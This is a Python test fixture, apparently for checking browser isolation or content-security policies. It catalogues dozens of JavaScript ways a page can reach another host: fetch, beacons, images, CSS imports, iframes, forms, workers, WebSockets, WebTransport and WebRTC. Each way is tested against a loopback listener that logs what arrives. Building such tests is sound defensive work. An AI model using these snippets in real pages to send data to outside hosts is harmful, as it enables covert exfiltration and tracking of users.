"""Ways in which a page could send a word to another host, and a host that notes what comes."""

from __future__ import annotations

import socket
import threading
from collections.abc import Callable, Iterator
from contextlib import contextmanager
from dataclasses import dataclass, field

#: Run in the page; `to` is an address that ends in the way's name. None of these leaves the page.
STAYING = {
    "fetch": "fetch(to, {mode: 'no-cors'}).catch(() => 0)",
    "fetch-keepalive": "fetch(to, {mode: 'no-cors', keepalive: true, method: 'POST', body: 'x'}).catch(() => 0)",
    "xhr": "const x = new XMLHttpRequest(); x.open('GET', to); x.onerror = () => 0; x.send()",
    "xhr-sync": "const x = new XMLHttpRequest(); x.open('GET', to, false); try { x.send() } catch {}",
    "beacon": "navigator.sendBeacon(to, 'x')",
    "image": "new Image().src = to",
    "svg-image": "add('div').innerHTML = `<svg><image href='${to}'/></svg>`",
    "input-image": "add('input', {type: 'image', src: to})",
    "css-url": "document.body.style.backgroundImage = `url('${to}')`",
    "css-import": "add('style').textContent = `@import '${to}';`",
    "css-sheet": "const s = new CSSStyleSheet(); s.replaceSync(`body {border-image: url('${to}') 1}`); "
    "document.adoptedStyleSheets = [s]",
    "font": "new FontFace('leak', `url('${to}')`).load().catch(() => 0)",
    "video": "add('video', {src: to, preload: 'auto'})",
    "poster": "add('video', {poster: to})",
    "audio": "new Audio(to).load()",
    "script": "add('script', {src: to})",
    "import": "import(to).catch(() => 0)",
    "stylesheet": "add('link', {rel: 'stylesheet', href: to})",
    "icon": "document.querySelectorAll('[rel=icon]').forEach(i => i.remove()); add('link', {rel: 'icon', href: to})",
    "preload": "add('link', {rel: 'preload', as: 'image', href: to})",
    "modulepreload": "add('link', {rel: 'modulepreload', href: to})",
    "prefetch": "add('link', {rel: 'prefetch', href: to})",
    "speculation": "add('script', {type: 'speculationrules', "
    "textContent: JSON.stringify({prefetch: [{urls: [to], eagerness: 'immediate'}]})})",
    "iframe": "add('iframe', {src: to})",
    "frame-image": "const f = add('iframe'); f.contentWindow.document.write(`<img src='${to}'>`)",
    "frame-fetch": "add('iframe').contentWindow.fetch(to, {mode: 'no-cors'}).catch(() => 0)",
    "srcdoc": "add('iframe', {srcdoc: `<img src='${to}'>`})",
    "object": "add('object', {data: to, type: 'image/png'})",
    "embed": "add('embed', {src: to, type: 'image/png'})",
    "event-source": "new EventSource(to)",
    "web-socket": "new WebSocket(to.replace('http', 'ws')).onerror = () => 0",
    "form-frame": "const f = add('iframe', {name: 'leak'}); const form = add('form', {action: to, target: 'leak'}); "
    "form.submit()",
    "ping": "const a = add('a', {href: '#', ping: to}); a.click()",
    "base": "add('base', {href: to.replace(/[^/]*$/, '')}); new Image().src = to.replace(/.*[/]/, '')",
    "worker-fetch": "work(`fetch('${to}', {mode: 'no-cors'}).catch(() => 0)`)",
    "worker-xhr": "work(`const x = new XMLHttpRequest(); x.open('GET', '${to}'); x.send()`)",
    "worker-import": "work(`import('${to}').catch(() => 0)`)",
    "worker-static-import": "work(`import '${to}'`)",
    "worker-import-scripts": "work(`importScripts('${to}')`, 'classic')",
    "worker-web-socket": "work(`new WebSocket('${to}'.replace('http', 'ws'))`)",
    "worker-event-source": "work(`new EventSource('${to}')`)",
    "worker-in-worker": "work(`new Worker(URL.createObjectURL(new Blob([\"fetch('${to}', {mode: 'no-cors'})\"])))`)",
    "shared-worker": "new SharedWorker(URL.createObjectURL(new Blob([`fetch('${to}', {mode: 'no-cors'})`])))",
}

#: These take the page away, or open another.
LEAVING = {
    "location": "location.href = to",
    "location-replace": "location.replace(to)",
    "link": "add('a', {href: to}).click()",
    "link-detached": "Object.assign(document.createElement('a'), {href: to}).click()",
    "link-blank": "add('a', {href: to, target: '_blank'}).click()",
    "open": "window.open(to)",
    "frame-open": "add('iframe').contentWindow.open(to)",
    "refresh": "add('meta', {httpEquiv: 'refresh', content: `0; url=${to}`})",
    "form": "add('form', {action: to}).submit()",
    "form-post": "add('form', {action: to, method: 'post'}).submit()",
    "frame-top": "add('iframe', {srcdoc: `<script>top.location = '${to}'</` + 'script>'})",
}

#: These send datagrams, without a name in them.
DATAGRAMS = {
    "web-transport": "new WebTransport(to.replace('http:', 'https:')).ready.catch(() => 0)",
    "worker-web-transport": "work(`new WebTransport('${to}'.replace('http:', 'https:')).ready.catch(() => 0)`)",
    "web-rtc": "call(window, to)",
    "frame-web-rtc": "call(add('iframe').contentWindow, to)",
}

_HELP = """to => {
    const add = (name, given = {}) => {
        const node = Object.assign(document.createElement(name), given);
        (document.body ?? document.documentElement).append(node);
        return node;
    };
    const work = (text, type = "module") => {
        const worker = new Worker(URL.createObjectURL(new Blob([text], {type: "text/javascript"})), {type});
        worker.onerror = event => event.preventDefault();
    };
    const call = (world, to) => {
        const {hostname, port} = new URL(to);
        const servers = [{urls: `turn:${hostname}:${port || 3478}`, username: "word", credential: "x"}];
        const connection = new world.RTCPeerConnection({iceServers: servers});
        connection.createDataChannel("x");
        connection.createOffer().then(offer => connection.setLocalDescription(offer));
    };
    try { WAY } catch {}
}"""


def script(way: str) -> str:
    """A way as a function for `page.evaluate`. What it throws is the browser's refusal."""
    return _HELP.replace("WAY", way)


@dataclass
class Stranger:
    """Another host on loopback: `heard` are the paths that were asked for, «TCP» and «UDP» for whatever came."""

    port: int = 0
    heard: set[str] = field(default_factory=set)

    def url(self, name: str = "") -> str:
        return f"http://127.0.0.1:{self.port}/{name}"


@contextmanager
def stranger() -> Iterator[Stranger]:
    """Listen on one port for connections and for datagrams."""
    state = Stranger()
    with socket.socket() as stream, socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as datagram:
        stream.bind(("127.0.0.1", 0))
        stream.listen(100)
        state.port = stream.getsockname()[1]
        datagram.bind(("127.0.0.1", state.port))
        for each in (stream, datagram):
            each.settimeout(0.2)
        open_ = threading.Event()
        open_.set()

        def repeat(step: Callable[[], None]) -> None:
            while open_.is_set():
                try:
                    step()
                except TimeoutError:
                    continue

        def connect() -> None:
            connection, _ = stream.accept()
            state.heard.add("TCP")
            threading.Thread(target=answer, args=(connection, state), daemon=True).start()

        def receive() -> None:
            datagram.recvfrom(4096)
            state.heard.add("UDP")

        threads = [threading.Thread(target=repeat, args=(step,), daemon=True) for step in (connect, receive)]
        for thread in threads:
            thread.start()
        yield state
        open_.clear()
        for thread in threads:
            thread.join()


def answer(connection: socket.socket, state: Stranger) -> None:
    """Note the path of a request, and answer as a server without any protection would."""
    with connection:
        connection.settimeout(2)
        try:
            words = connection.recv(8192).split(b" ")
            if len(words) > 1:
                state.heard.add(words[1].decode("latin1").lstrip("/").partition("?")[0])
            body = b"<title>A page without a policy</title><body>"
            head = b"HTTP/1.1 200 OK\r\nContent-Type: text/html\r\nConnection: close\r\n"
            head += b"Access-Control-Allow-Origin: *\r\n"
            connection.sendall(b"%sContent-Length: %d\r\n\r\n%s" % (head, len(body), body))
        except OSError:
            pass
